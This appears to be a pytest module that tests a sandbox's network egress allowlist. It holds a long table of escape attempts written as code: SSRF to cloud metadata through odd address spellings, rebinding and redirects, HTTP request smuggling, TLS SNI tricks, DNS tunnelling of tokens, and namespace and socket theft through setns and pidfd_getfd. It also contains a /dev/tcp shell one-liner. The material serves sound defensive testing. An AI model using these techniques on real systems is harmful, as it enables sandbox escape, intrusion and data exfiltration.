"""Attempts to reach what the network's policy does not allow: each is first shown to arrive where there is no policy.

The rows of a policy run in one sandbox (tests/harness/escape/egress.py), in a world where every address has a server.
"""

from __future__ import annotations

from collections.abc import Mapping
from ipaddress import ip_address
from typing import Any

import pytest

from tests.harness.escape.egress import Batch, Came, Row, run_inside, run_outside
from tests.harness.world import METADATA, NAMES, OWN, OWN6, OWN_PRIVATE, PRIVATE, PUBLIC, PUBLIC_TOO, World

pytestmark = pytest.mark.both_users

RESOLVER = "10.9.9.53"
# Addresses that no name may lead to, by what they are.
KINDS: dict[str, list[str]] = {
    "metadata": [METADATA],
    "metadata-of-azure": ["168.63.129.16"],
    "metadata-of-alibaba": ["100.100.100.200"],
    "metadata-of-oracle": ["192.0.0.192"],
    "metadata-of-aws-6": ["fd00:ec2::254"],
    "link-local": ["169.254.9.9"],
    "private-10": [PRIVATE],
    "private-172": ["172.16.9.9"],
    "private-192": ["192.168.7.7"],
    "carrier-grade": ["100.64.5.5"],
    "documentation": ["203.0.113.5"],
    "documentation-1": ["192.0.2.9"],
    "documentation-2": ["198.51.100.7"],
    "documentation-6": ["2001:db8::5"],
    "benchmark": ["198.18.5.5"],
    "reserved": ["240.1.1.1"],
    "this-network": ["0.1.2.3"],
    "relay-of-6to4": ["192.88.99.1"],
    "unique-local": ["fc00::9"],
    "site-local": ["fec0::9"],
    "mapped": ["::ffff:169.254.9.9"],
    "compatible": ["::169.254.9.9"],
    "6to4": ["2002:a9fe:a9fe::1"],
    "nat64": ["64:ff9b::a9fe:a9fe"],
    "nat64-local": ["64:ff9b:1::a9fe:a9fe"],
    "teredo": ["2001:0:4136:e378:8000:63bf:5601:5601"],
    "loopback": ["127.0.0.1"],
    "loopback-elsewhere": ["127.9.9.9"],
    "loopback-6": ["::1"],
    "own": [OWN],
    "own-private": [OWN_PRIVATE],
    "own-6": [OWN6],
}
# Where a mapped address arrives, the kernel says the address that it means.
ARRIVES_AS = {"mapped": "169.254.9.9"}
ALLOW = (
    "good.example",
    "*.wild.example",
    "wild.example:5432",
    "db.example:5432@10.0.0.0/8",
    "*.kinds.example",
    "own10.example:80@10.0.0.0/8",
    "shared10.example:80@0.0.0.0/0",
    "turns10.example:80@10.0.0.0/8",
    "turns.example",
    "mixed.example",
    "alias.example",
    "listener.example:444",
    "10.1.2.4:8080",
    f"{OWN}:8080",
)
DENY = ("*.denied.wild.example", "203.0.113.0/24")
TABLE: dict[str, list[list[str]]] = {
    **NAMES,
    **{f"{kind}.kinds.example": [addresses] for kind, addresses in KINDS.items()},
    "own10.example": [[OWN_PRIVATE]],
    "shared10.example": [[METADATA]],
    "turns.example": [[PUBLIC], [METADATA]],
    "turns10.example": [[PRIVATE], [METADATA]],
    "mixed.example": [[PUBLIC, METADATA]],
    "alias.example": [["=metadata.kinds.example"]],
    "listener.example": [[PUBLIC]],
    "*.example": [[PUBLIC]],
}
ALLOWLIST: dict[str, Any] = {
    "network": "allowlist", "network_allow": ALLOW, "network_deny": DENY,
    "level": "jail", "timeout": 60, "pids": 400, "memory": "1g",
}  # fmt: skip
OPEN: dict[str, Any] = {**ALLOWLIST, "network": "open", "network_allow": (), "network_deny": (*DENY, "other.example")}


def sends(row: str, text: str) -> Row:
    """Return an attempt by plain HTTP at a name that is allowed.

    Lines end as HTTP has it; a bare line feed is written as a pilcrow.
    """
    raw = text.replace("\n", "\r\n").replace("¶", "\n")
    return Row(name=row, code=f'return http("good.example", {raw!r}.format(T=T))')


def smuggles(row: str, head: str, rest: str = "") -> Row:
    """Return a request that two readers understand differently, and one for another name where only one sees it."""
    return sends(f"smuggling: {row}", f"{head}\n\n{rest}GET /{{T}} HTTP/1.1\nHost: other.example\n\n")


def refused_head(row: str, head: str) -> Row:
    """Return a head that no proxy may pass on, whose token is in it."""
    return sends(f"HTTP: {row}", f"{head}\n\n")


POST = "POST /a HTTP/1.1\nHost: good.example\n"
OTHER_NAMES = (
    Row(name="a name that is not listed", code='return get(f"{T}.other.example", T)', also_open=True),
    Row(name="a name that ends like a listed one", code='return get(f"{T}good.example", T)'),
    Row(name="a name that begins like a listed one", code='return get(f"good.example.{T}.other.example", T)'),
    Row(name="the apex of a wildcard", code='return get("wild.example", T)'),
    Row(name="a denied name below a wildcard", code='return get("x.denied.wild.example", T)', also_open=True),
    Row(name="another Host", code='return get("good.example", T, name=f"{T}.other.example")'),
    Row(name="a denied Host", code='return get("a.wild.example", T, name=f"x.denied.wild.example")', also_open=True),
    Row(name="another allowed Host", code='return get("good.example", T, name="a.wild.example")', also_open=True),
    Row(
        name="another Host in the second request",
        code="""
        with connect("good.example", 80) as connection:
            connection.sendall(b"GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n")
            connection.recv(4096)
            return say(connection, f"GET /{T} HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n".encode())
        """,
        also_open=True,
    ),
    Row(
        name="another Host in a request sent along",
        code="""
        first = "GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"
        return http("good.example", first + f"GET /{T} HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n")
        """,
    ),
    Row(name="another server name", code='return tls("good.example", T, name=f"{T}.other.example")', also_open=True),
    Row(name="another allowed server name", code='return tls("good.example", T, name="a.wild.example")'),
    Row(name="no server name", code='return tls("good.example", T, name="")', also_open=True),
    Row(name="the allowed name's own address", code=f'return get("{PUBLIC}", T, name="good.example")'),
    Row(name="the allowed name's own address by TLS", code=f'return tls("{PUBLIC}", T, name="good.example")'),
    Row(name="plain text where TLS is", code='return get("good.example", T, 443)', also_open=True),
    Row(name="a protocol of its own where TLS is", code='return http("good.example", f"SSH-2.0-{T}\\r\\n", 443)'),
    Row(name="TLS where plain text is", code='return tls("good.example", T, 80)', also_open=True),
    Row(name="another server name in a stream", code='return tls("db.example", T, 5432, name=f"{T}.other.example")'),
    Row(name="an upper-case name that is denied", code='return get("X.DENIED.Wild.Example", T)', also_open=True),
    Row(name="a denied name with a dot behind it", code='return get("x.denied.wild.example.", T)', also_open=True),
    *(
        Row(name=f"a port that is not listed: {port}", code=f'return http("good.example", f"GET /{{T}} HTTP/1.0\\r\\n\\r\\n", {port})', also_open=True)
        for port in (22, 81, 8080, 6379)
    ),
    Row(name="a port of another rule", code='return http("db.example", f"GET /{T} HTTP/1.0\\r\\n\\r\\n", 80)'),
    Row(name="a port of a literal's rule", code='return http("10.1.2.4", f"GET /{T} HTTP/1.0\\r\\n\\r\\n", 80)'),
    Row(
        name="the addresses that names have in there",
        code="""
        for last in range(40):
            try:
                get(f"198.18.0.{last}", T, name=f"{T}.other.example")
                tls(f"198.18.0.{last}", T, name=f"{T}.other.example")
            except OSError:
                continue
        """,
    ),
)  # fmt: skip


def hello(row: str, code: str, **more: Any) -> Row:
    """Return an attempt to begin TLS with bytes of its own."""
    return Row(name=f"TLS: {row}", code=f'with connect("good.example", 443) as c:\n    return say(c, {code})', **more)


ODD_HELLOS = (
    hello("two server names", 'record(client_hello([b"good.example", f"{T}.other.example".encode()]))', also_open=True),
    hello("two server names, the allowed one last", 'record(client_hello([f"{T}.other.example".encode(), b"good.example"]))'),
    hello("an address for a server name", f'record(client_hello([b"{METADATA}"], T.encode()))', also_open=True),
    hello("a name with a null byte", 'record(client_hello([b"good.example\\0." + T.encode()]))'),
    hello("a name that is no text", 'record(client_hello([b"\\xff\\xfe" + T.encode()]))'),
    hello("an empty name", 'record(client_hello([b""], T.encode()))'),
    hello("no name at all", "record(client_hello([], T.encode()))"),
    hello("two records", '*[record(p) for h in [client_hello([f"{T}.other.example".encode()])] for p in (h[:40], h[40:])]'),
    hello("a byte in each packet", '*[bytes([b]) for b in record(client_hello([f"{T}.other.example".encode()]))]'),
    hello("a name behind more than anybody reads", 'record(h[:16000]) + record(h[16000:]) if (h := client_hello([f"{T}.other.example".encode()], padding=20000)) else b""'),
    hello("another record first", 'record(b"\\x01", 20) + record(client_hello([f"{T}.other.example".encode()]))'),
    hello("an alert first", 'record(b"\\x01\\0", 21) + record(client_hello([f"{T}.other.example".encode()]))'),
    hello("an empty record first", 'record(b"") + record(client_hello([f"{T}.other.example".encode()]))'),
    hello("a length that lies", 'record(client_hello([f"{T}.other.example".encode()]) + b"GET /")'),
    hello("version 2", 'b"\\x80\\x2b\\x01\\x03\\x01\\x00\\x03\\x00\\x00\\x00\\x1f\\x01\\x00\\x80" + b"x" * 18 + T.encode()'),
    hello("another message", 'record(b"\\x02" + client_hello([T.encode()])[1:])'),
)  # fmt: skip
HEADS = (
    refused_head("a tunnel", "CONNECT {T}.other.example:443 HTTP/1.1\nHost: good.example"),
    refused_head("a tunnel to the allowed name", "CONNECT good.example:443 HTTP/1.1\nHost: good.example\nX: {T}"),
    refused_head("a target with another name", "GET http://{T}.other.example/ HTTP/1.1\nHost: good.example"),
    refused_head("a target with another port", "GET http://good.example:8080/{T} HTTP/1.1\nHost: good.example"),
    refused_head("a target with a user", "GET http://good.example@other.example/{T} HTTP/1.1\nHost: good.example"),
    refused_head("a target of another kind", "GET ftp://good.example/{T} HTTP/1.1\nHost: good.example"),
    refused_head("two hosts", "GET /{T} HTTP/1.1\nHost: good.example\nHost: other.example"),
    refused_head("the same host twice", "GET /{T} HTTP/1.1\nHost: good.example\nHost: good.example"),
    refused_head("no host", "GET /{T} HTTP/1.1\nX: y"),
    refused_head("no host in 1.0", "GET /{T} HTTP/1.0\nX: y"),
    refused_head("an empty host", "GET /{T} HTTP/1.1\nHost:"),
    refused_head("two hosts in one", "GET /{T} HTTP/1.1\nHost: good.example, other.example"),
    refused_head("a host with a user", "GET /{T} HTTP/1.1\nHost: good.example@other.example"),
    refused_head("a host with a path", "GET /{T} HTTP/1.1\nHost: good.example/.other.example"),
    refused_head("a host with another port", "GET /{T} HTTP/1.1\nHost: good.example:8080"),
    refused_head("a host behind a space", "GET /{T} HTTP/1.1\nHost : other.example\nHost: good.example"),
    refused_head("a host in a folded line", "GET /{T} HTTP/1.1\nHost: good.example\n\tother.example"),
    refused_head("a header in a folded line", "GET /{T} HTTP/1.1\nHost: good.example\nX: y\n Host: other.example"),
    refused_head("a bare line feed", "GET /{T} HTTP/1.1\nX: y¶Host: other.example\nHost: good.example"),
    refused_head("a bare carriage return", "GET /{T} HTTP/1.1\nX: y\rHost: other.example\nHost: good.example"),
    refused_head("a null byte", "GET /{T} HTTP/1.1\nHost: good.example\0.other.example"),
    refused_head("HTTP/0.9", "GET /{T}"),
    refused_head("HTTP/2 without TLS", "PRI * HTTP/2.0\n\nSM\n\n{T}"),
    refused_head("an upgrade to h2c", "GET /{T} HTTP/1.1\nHost: good.example\nConnection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAAQAAP__"),
    refused_head("a version of its own", "GET /{T} HTTP/3.7\nHost: good.example"),
    refused_head("no name of a header", "GET /{T} HTTP/1.1\nHost: good.example\n: other.example"),
    refused_head("a line that is no header", "GET /{T} HTTP/1.1\nHost: good.example\nother.example"),
    Row(name="HTTP: a head without an end", code='return http("good.example", "GET / HTTP/1.1\\r\\nHost: good.example\\r\\n" + "X: yyyyyyyyyyyyyyyy\\r\\n" * 5000 + f"Y: {T}\\r\\n\\r\\n")'),
)  # fmt: skip
SMUGGLED = (
    smuggles("a length and chunks", POST + "Content-Length: 5\nTransfer-Encoding: chunked", "0\n\n"),
    smuggles("chunks and a length", POST + "Transfer-Encoding: chunked\nContent-Length: 4", "0\n\n"),
    smuggles("two lengths", POST + "Content-Length: 0\nContent-Length: 0000"),
    smuggles("two different lengths", POST + "Content-Length: 60\nContent-Length: 0"),
    smuggles("a list of lengths", POST + "Content-Length: 0, 0"),
    smuggles("a length with a sign", POST + "Content-Length: +0"),
    smuggles("a length that is no number", POST + "Content-Length: 0x0"),
    smuggles("an encoding that is none", POST + "Transfer-Encoding: xchunked", "0\n\n"),
    smuggles("chunks within another encoding", POST + "Transfer-Encoding: identity, chunked", "0\n\n"),
    smuggles("chunks twice", POST + "Transfer-Encoding: chunked, chunked", "0\n\n"),
    smuggles("two encodings", POST + "Transfer-Encoding: chunked\nTransfer-Encoding: identity", "0\n\n"),
    smuggles("an encoding behind a space", POST + "Transfer-Encoding : chunked", "0\n\n"),
    smuggles("an encoding in a folded line", POST + "Transfer-Encoding:\n chunked", "0\n\n"),
    smuggles("an encoding behind a control character", POST + "Transfer-Encoding: \x0bchunked", "0\n\n"),
    smuggles("a chunk whose size lies", POST + "Transfer-Encoding: chunked", "1\nxyz\n0\n\n"),
    smuggles("a chunk with a size of its own", POST + "Transfer-Encoding: chunked", "0x0\n\n"),
    smuggles("a chunk of a negative size", POST + "Transfer-Encoding: chunked", "-1\n\n"),
    smuggles("a chunk of a size beyond all", POST + "Transfer-Encoding: chunked", "10000000000000000\n"),
    smuggles("a chunk that ends with a bare line feed", POST + "Transfer-Encoding: chunked", "0¶¶"),
    Row(
        name="smuggling: behind a WebSocket that nobody took",
        code="""
        with connect("good.example", 80) as connection:
            connection.sendall(b"GET / HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n")
            connection.recv(4096)
            return say(connection, f"GET /{T} HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n".encode())
        """,
    ),
)  # fmt: skip


def kind_row(kind: str, address: str, port: int) -> Row:
    """Return an attempt at an address by an allowed name that leads there."""
    how = "get" if port == 80 else "tls"
    code = f'return {how}("{kind}.kinds.example", T)'
    return Row(name=f"a name for {kind}, port {port}", code=code, at=(ARRIVES_AS.get(kind, str(ip_address(address))),), also_open=True)


BY_NAME = (
    *(kind_row(kind, addresses[0], 80) for kind, addresses in KINDS.items()),
    *(kind_row(kind, KINDS[kind][0], 443) for kind in ("metadata", "private-10", "loopback", "own")),
    Row(name="an own address that a range covers", code='return get("own10.example", T)', at=(OWN_PRIVATE,)),
    Row(name="metadata that a range covers", code='return get("shared10.example", T)', at=(METADATA,)),
    Row(name="a name's other name", code='return get("alias.example", T)', at=(METADATA,), also_open=True),
    Row(
        name="an answer that has a second address",
        code="""
        found = {info[4][0] for info in socket.getaddrinfo("mixed.example", 80, type=socket.SOCK_STREAM)}
        return b"".join(get(address, T, name="mixed.example") for address in sorted(found))
        """,
        at=(METADATA,),
        also_open=True,
    ),
    *(
        Row(
            name=f"rebinding of {name}",
            code=f"""
            heard = get("{name}", "first")
            for _ in range(4):
                heard += get("{name}", T)
            return heard
            """,
            at=(METADATA,),
            also_open=name == "turns.example",
        )
        for name in ("turns.example", "turns10.example")
    ),
)
SPELLED = {
    "decimal": "2852039166", "hexadecimal": "0xA9FEA9FE", "octal": "0251.0376.0251.0376", "three parts": "169.254.43518",
    "two parts": "169.16689662", "mixed": "0xa9.254.0251.0xfe", "usual": METADATA, "mapped": "::ffff:a9fe:a9fe",
}  # fmt: skip
LITERALS = {
    "carrier-grade": "100.64.5.5", "private": PRIVATE, "6to4": "2002:a9fe:a9fe::1", "nat64": "64:ff9b::a9fe:a9fe",
    "own": OWN, "own private": OWN_PRIVATE, "own in version 6": OWN6, "reserved": "240.1.1.1", "this network": "0.1.2.3",
    "benchmark": "198.18.5.5", "azure": "168.63.129.16", "documentation": "192.0.2.9", "denied": "203.0.113.77",
    "unique local": "fd00:ec2::254", "the host's resolver": RESOLVER, "link-local": "169.254.9.9",
}  # fmt: skip
ON_LOOPBACK = {"loopback": "127.0.0.1", "other loopback": "127.0.0.53", "version 6": "::1", "unspecified": "0.0.0.0",
    "zero": "0", "short": "127.1", "by name": "localhost", "mapped": "::ffff:7f00:1"}  # fmt: skip
BY_ADDRESS = (
    *(
        Row(name=f"metadata, {spelling}", code=f'return get("{text}", T, {port})', at=(METADATA,), also_open=True)
        for port in (80,)
        for spelling, text in SPELLED.items()
    ),
    Row(name="metadata by TLS", code=f'return tls("{METADATA}", T)', at=(METADATA,), also_open=True),
    *(Row(name=f"a literal: {what}", code=f'return get("{text}", T)', also_open=True) for what, text in LITERALS.items()),
    *(
        Row(name=f"the host's loopback: {what}", code=f'return get("{text}", T)', also_open=True)
        for what, text in ON_LOOPBACK.items()
    ),
    Row(name="an own address that is listed", code=f'return get("{OWN}", T, 8080)', at=(OWN,)),
    Row(name="a literal on a port that nobody serves", code='return get("8.8.8.8", T, 22)', also_open=True),
    Row(name="a public literal", code='return get("8.8.8.8", T)'),
    Row(name="a public literal of version 6", code='return get("2606:4700::1111", T)'),
    Row(name="metadata with an allowed Host", code=f'return get("{METADATA}", T, name="good.example")', also_open=True),
    *(
        Row(
            name=f"a redirect to {what}",
            code=f"""
            import urllib.error, urllib.request
            try:
                url = f"{url}".encode().hex()
                return urllib.request.urlopen(f"http://good.example/redirect/{{url}}", timeout=4).read()
            except urllib.error.HTTPError as error:
                return error.read()
            """,
            also_open=what != "another name",
        )
        for what, url in {
            "metadata": f"http://{METADATA}/{{T}}", "a name for metadata": "http://metadata.kinds.example/{T}",
            "another name": "http://third.example/{T}", "a denied name": "http://x.denied.wild.example/{T}",
            "loopback": "http://127.0.0.1:8080/{T}",
        }.items()
    ),
)  # fmt: skip
QUESTIONS = {
    "a name that is not listed": 'ask(f"{T}.other.example")',
    "a name below a wildcard, without a connection": 'ask(f"{T}.wild.example")',
    "a name below a listed one": 'ask(f"{T}.good.example")',
    "by the C library": 'socket.getaddrinfo(f"{T}.other.example", 80)[0][4][0]',
    "by the C library, below a wildcard": 'socket.getaddrinfo(f"{T}.wild.example", 80)[0][4][0]',
    "many labels": 'ask(".".join([T] + ["x" * 60] * 3 + ["wild.example"]))',
    "version 6": 'ask(f"{T}.wild.example", 28)',
    "a text": 'ask(f"{T}.wild.example", 16)',
    "anything": 'ask(f"{T}.wild.example", 255)',
    "NULL": 'ask(f"{T}.wild.example", 10)',
    "HTTPS": 'ask(f"{T}.wild.example", 65)',
    "a service": 'ask(f"_{T}._tcp.wild.example", 33)',
    "an address's name": 'ask(f"{T}.9.9.10.in-addr.arpa", 12)',
    "data behind the question": 'ask("good.example", options=b"\\xfd\\xe9\\0\\x0d" + T.encode())',
    "an update": 'ask(f"{T}.wild.example", opcode=5)',
    "no question": "datagram(resolver(), 53, T.encode())",
    "by TCP": 'ask_by_tcp(f"{T}.wild.example")',
    "a transfer of a zone": 'ask_by_tcp(f"{T}.example", 252)',
    "another resolver": 'ask(f"{T}.wild.example", server="8.8.8.8")',
    "another resolver by TCP": 'ask_by_tcp(f"{T}.good.example", server="8.8.8.8")',
    "the host's resolver": f'ask(f"{{T}}.good.example", server="{RESOLVER}")',
    "the host's resolver by TCP": f'ask_by_tcp(f"{{T}}.good.example", server="{RESOLVER}")',
    "another resolver of version 6": 'datagram("2606:4700::1111", 53, question(f"{T}.good.example"), socket.AF_INET6)',
    "a resolver by TLS": 'http("8.8.8.8", T, 853)',
    "a resolver by HTTPS": 'tls("8.8.8.8", f"dns-query?{T}")',
    "a resolver of the link": 'datagram("224.0.0.251", 5353, question(f"{T}.local"))',
}
TUNNELS = tuple(
    Row(name=f"a question: {what}", code=f"return {code}", also_open=what != "a resolver by HTTPS")
    for what, code in QUESTIONS.items()
)
OTHER_PROTOCOLS = (
    *(
        Row(name=f"a datagram: {what}", code=f'return datagram("{host}", {port}, T.encode())', also_open=True)
        for what, (host, port) in {
            "QUIC": ("good.example", 443), "time": ("good.example", 123), "metadata": (METADATA, 123),
            "a public address": ("8.8.8.8", 443), "all": ("255.255.255.255", 1900), "a group": ("224.0.0.251", 5353),
            "a port that nobody serves": ("9.9.9.9", 4444),
            "the host": (OWN, 123), "the host's loopback": ("127.0.0.1", 123),
        }.items()
    ),
    Row(
        name="a datagram: version 6",
        code='return datagram("2606:4700::1111", 443, T.encode(), socket.AF_INET6)',
        also_open=True,
    ),
    Row(
        name="multipath TCP",
        code=f"""
        caller = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
        caller.settimeout(WAIT_S)
        caller.connect(("{METADATA}", 80))
        return say(caller, f"GET /{{T}} HTTP/1.0\\r\\n\\r\\n".encode())
        """,
        also_open=True,
    ),
    Row(
        name="data with the first packet",
        code=f"""
        caller = socket.socket()
        caller.sendto(f"GET /{{T}} HTTP/1.0\\r\\n\\r\\n".encode(), socket.MSG_FASTOPEN, ("{METADATA}", 80))
        return listen(caller)
        """,
        also_open=True,
    ),
    Row(
        name="a ping",
        needs_powers=True,
        code=f"""
        head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
        words = struct.unpack(f"!{{(len(head) + len(T) + 1) // 2}}H", head + T.encode() + bytes(len(T) % 2))
        total = sum(words)
        total = (total >> 16) + (total & 0xFFFF)
        packet = struct.pack("!BBHHH", 8, 0, ~(total + (total >> 16)) & 0xFFFF, 1, 1) + T.encode()
        caller = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        caller.settimeout(1)
        caller.sendto(packet, ("{PUBLIC}", 0))
        return caller.recv(100)
        """,
        also_open=True,
    ),
    Row(
        name="a raw packet",
        needs_powers=True,
        code=f"""
        caller = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
        caller.sendto(T.encode(), ("{PUBLIC}", 0))
        """,
        also_open=True,
    ),
    Row(
        name="a raw packet with a head of its own",
        needs_powers=True,
        code=f"""
        caller = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(T), 1, 0, 64, 253, 0, socket.inet_aton("{OWN}"), socket.inet_aton("{PUBLIC}"))
        caller.sendto(head + T.encode(), ("{PUBLIC}", 0))
        """,
    ),
    Row(
        name="a frame",
        needs_powers=True,
        code="""
        caller = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        caller.bind((devices()[0][1], 0))
        caller.send(b"\\xff" * 6 + bytes(6) + b"\\x88\\xb5" + T.encode() + bytes(46))
        """,
        also_open=True,
    ),
    Row(
        name="a socket that is bound to a device",
        needs_powers=True,
        code=f"""
        caller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        caller.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, devices()[0][1].encode() + b"\\0")
        caller.sendto(T.encode(), ("{METADATA}", 123))
        """,
        also_open=True,
    ),
    Row(
        name="a socket of the host without a path",
        code='''
        caller = socket.socket(socket.AF_UNIX)
        caller.connect("\\0host-of-tests")
        caller.sendall(T.encode())
        return listen(caller)
        ''',
        also_open=True,
    ),
)  # fmt: skip
SETTINGS = (
    Row(
        name="an address of its own making",
        needs_powers=True,
        code="""
        body = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, socket.if_nametoindex(socket.if_nameindex()[-1][1]))
        netlink(20, 0x600, body + attribute(1, b"\\x2d\\x43\\x59\\x63") + attribute(2, b"\\x2d\\x43\\x59\\x63"))
        raise Escaped("it has an address more")
        """,
    ),
    Row(
        name="a route of its own making",
        needs_powers=True,
        code="""
        body = struct.pack("=BBBBBBBBI", socket.AF_INET, 24, 0, 0, 254, 4, 253, 1, 0)
        netlink(24, 0x600, body + attribute(1, b"\\x2d\\x43\\x60\\0") + attribute(4, struct.pack("=I", socket.if_nameindex()[-1][0])))
        raise Escaped("it has a route more")
        """,
    ),
    Row(
        name="an interface of its own making",
        needs_powers=True,
        code="""
        netlink(16, 0x600, struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + attribute(3, b"escape0\\0") + attribute(18, attribute(1, b"veth\\0")))
        raise Escaped("it has an interface more")
        """,
    ),
    Row(
        name="a setting of the kernel's",
        needs_powers=True,
        code="""
        with open("/proc/sys/net/ipv4/ip_forward", "w") as file:
            file.write("0")
        raise Escaped("it changed a setting")
        """,
    ),
    Row(
        name="a listener's port",
        needs_powers=True,
        code="""
        for port in (444, 53):
            with socket.socket() as taken:
                taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                taken.bind(("127.0.0.1", port))
                taken.listen()
        raise Escaped("it listens there")
        """,
    ),
    Row(
        name="the port of the name server, by datagrams",
        needs_powers=True,
        code="""
        taken = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        taken.bind(("0.0.0.0", 53))
        raise Escaped("it answers there")
        """,
    ),
    Row(
        name="the namespace of another process",
        needs_powers=True,
        code="""
        import ctypes
        own = os.stat("/proc/self/ns/net").st_ino
        for entry in os.listdir("/proc"):
            try:
                if entry.isdigit() and os.stat(f"/proc/{entry}/ns/net").st_ino != own:
                    fd = os.open(f"/proc/{entry}/ns/net", os.O_RDONLY)
                    if ctypes.CDLL(None).setns(fd, 0) == 0:
                        raise Escaped("it is elsewhere")
            except OSError:
                continue
        raise NEVER
        """,
    ),
    Row(
        name="a descriptor of another process",
        needs_powers=True,
        code="""
        import ctypes
        above = {os.getpid(), os.getppid()}
        for entry in os.listdir("/proc"):
            try:
                if not entry.isdigit() or int(entry) in above or b"internet" not in open(f"/proc/{entry}/cmdline", "rb").read():
                    continue
                for fd in os.listdir(f"/proc/{entry}/fd"):
                    if os.readlink(f"/proc/{entry}/fd/{fd}").startswith("socket:"):
                        if ctypes.CDLL(None).syscall(438, os.pidfd_open(int(entry)), int(fd), 0) >= 0:
                            raise Escaped("it has a socket of another process")
            except OSError:
                continue
        raise NEVER
        """,
    ),
)  # fmt: skip
REACH = f'get("{METADATA}", T)'
FORKS = f"""
done, stays = os.pipe()
if os.fork() == 0:
    try:
        {{before}}
        {REACH}
    finally:
        os._exit(0)
os.close(stays)
os.read(done, 1)  # which is over when all of them are
"""
SHELL = f"exec 3<>/dev/tcp/{METADATA}/80; echo GET /{{T}} HTTP/1.0 >&3; echo >&3; timeout 1 cat <&3"
FROM_OTHERS = tuple(
    Row(name=f"metadata from {what}", code=code, at=(METADATA,))
    for what, code in {
        "a fork": FORKS.format(before="pass"),
        "an orphan": FORKS.format(before="os.setsid(); os.fork() and os._exit(0)"),
        "a thread": f"""
        import threading
        one = threading.Thread(target=attempt, args=({{"token": T, "code": {REACH!r}}},))
        one.start()
        one.join()
        """,
        "another program": f"""
        import subprocess
        return subprocess.run(["bash", "-c", f"{SHELL}"], capture_output=True).stdout
        """,
    }.items()
)
ROWS = (
    *OTHER_NAMES, *ODD_HELLOS, *HEADS, *SMUGGLED, *BY_NAME, *BY_ADDRESS, *TUNNELS, *OTHER_PROTOCOLS, *SETTINGS,
    *FROM_OTHERS,
)  # fmt: skip
